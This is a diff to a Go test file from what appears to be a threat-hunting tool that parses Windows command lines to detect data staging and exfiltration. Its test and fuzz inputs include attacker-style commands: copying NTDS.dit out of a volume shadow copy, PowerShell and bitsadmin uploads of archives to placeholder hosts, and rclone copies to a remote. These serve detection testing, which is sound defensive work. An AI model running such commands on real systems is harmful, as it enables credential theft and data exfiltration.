@@ -4,6 +4,8 @@ import (
 	"slices"
 	"strings"
 	"testing"
+
+	"github.com/spoor-hunt/spoor/internal/result"
 )
 
 func TestSplitArgs(t *testing.T) {
@@ -39,6 +41,10 @@ func TestCommands(t *testing.T) {
 		{`cmd /c "whoami & net user" > C:\1.txt`, []string{`cmd|/c|whoami & net user|>|C:\1.txt`, "whoami", "net|user"}},
 		// One quoted program with spaces is kept whole.
 		{`cmd /c "C:\Program Files\7-Zip\7z.exe"`, []string{`cmd|/c|C:\Program Files\7-Zip\7z.exe`, `C:\Program Files\7-Zip\7z.exe`}},
+		// Two quotes around a command that is no program file: stripped.
+		{`"C:\Windows\system32\cmd.exe" /c "copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\Extract\ntds.dit"`,
+			[]string{`C:\Windows\system32\cmd.exe|/c|copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit C:\Extract\ntds.dit`,
+				`copy|\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy1\Windows\NTDS\NTDS.dit|C:\Extract\ntds.dit`}},
 		{`cmd /c copy a^&b c && xcopy d e`, []string{`cmd|/c|copy|a^&b|c|&&|xcopy|d|e`, `copy|a&b|c`, `xcopy|d|e`}},
 		{`powershell.exe -NoP -ep bypass -c "Compress-Archive -Path 'D:\a b\*' -DestinationPath C:\x.zip; iwr -Uri https://h/u -InFile C:\x.zip -Method Put"`,
 			[]string{`powershell.exe|-NoP|-ep|bypass|-c|Compress-Archive -Path 'D:\a b\*' -DestinationPath C:\x.zip; iwr -Uri https://h/u -InFile C:\x.zip -Method Put`,
@@ -83,6 +89,10 @@ func TestResolve(t *testing.T) {
 		{`\\fs\share\..\x`, `C:\`, `\\fs\share\x`},
 		{`remote:bucket/x`, `C:\`, `remote:bucket/x`},
 		{`C:rel`, `C:\w`, `C:\w\rel`},
+		{`%ProgramData%\o.7z`, `C:\w`, `C:\ProgramData\o.7z`},
+		{`$env:PUBLIC\o.zip`, `C:\w`, `C:\Users\Public\o.zip`},
+		{`%TEMP%\o.zip`, `C:\w`, `%TEMP%\o.zip`},
+		{`$env:APPDATA\o.zip`, `C:\w`, `%APPDATA%\o.zip`},
 	} {
 		if got := resolve(tc.p, tc.cwd); got != tc.want {
 			t.Errorf("resolve(%q, %q) = %q, want %q", tc.p, tc.cwd, got, tc.want)
@@ -112,6 +122,10 @@ func FuzzCommands(f *testing.F) {
 		`powershell -c "Compress-Archive -Path a,b -DestinationPath c.zip; Invoke-WebRequest -InFile c.zip -Uri u"`,
 		`tar -czf o.tgz -C D:\src .`, `7z a -pX -mhe=on -v1g o.7z @list.txt`, `makecab /D CabinetNameTemplate=x.cab /F l.ddf`,
 		`robocopy \\fs\s C:\t *.docx /E`, `bitsadmin /transfer j /upload http://x/y C:\f`, `rclone copy D:\p r:b`,
+		`powershell -c "$w.UploadFile('u', (x), 'f'); [IO.Compression.ZipFile]::CreateFromDirectory('a','b'); gci a | ? {$_} | cpi -d b"`,
+		"powershell -c \"$a = 'C:\\x'; [int]$b=$a; $c = gci $a; cpi \\\"$a\\b$a$a\\\" $b\"",
+		`cmd /c for /r D:\d %f in (*.docx *.pdf) do @copy "%f" C:	\ & for %%g in (a b) do for %%h in (c d) do (copy %%g%%h e)`,
+		`cmd /c net use Z: \fs\s & bitsadmin /create /upload j & powershell -c "ndr -Name Y -Root \fs	 -Persist:$true"`,
 		`cmd /c "a^"b" 2>&1 > "x y"`, `powershell -enc ////`, `curl -F "f=@C:\a;type=x" -d @b --upload-file=[1-9]`,
 	} {
 		f.Add(s, `C:\w\`)
@@ -125,9 +139,29 @@ func FuzzCommands(f *testing.F) {
 			t.Fatalf("%d commands from %d bytes", len(cmds), len(line))
 		}
 		for _, c := range cmds {
+			if drive, share, ok := driveMap(c); ok && (len(drive) != 2 || !isUNC(share)) {
+				t.Fatalf("drive %q mapped to %q", drive, share)
+			}
+			if job, ok := bitsUploadJob(c); ok && job == "" {
+				t.Fatal("an upload job without a name")
+			}
 			a, ok := recognise(c, cwd)
 			if ok && len(a.sources) > maxExpansion*len(c.Args)+len(c.Args) {
 				t.Fatalf("%d sources from %d arguments", len(a.sources), len(c.Args))
+			}
+		}
+		// With the shell's state (cd, PowerShell variables, pipelines, for
+		// loops): at most an item per command and loop pattern, each
+		// source bounded.
+		items := fromCommands(result.ExposureItem{}, cmds, cwd, "", line)
+		if len(items) > len(cmds)+4*maxForSet {
+			t.Fatalf("%d items from %d commands", len(items), len(cmds))
+		}
+		for _, it := range items {
+			for _, s := range it.Sources {
+				if len(s) > maxCommandLine+len(cwd)+1 {
+					t.Fatalf("a source of %d bytes from a line of %d", len(s), len(line))
+				}
 			}
 		}
 	})
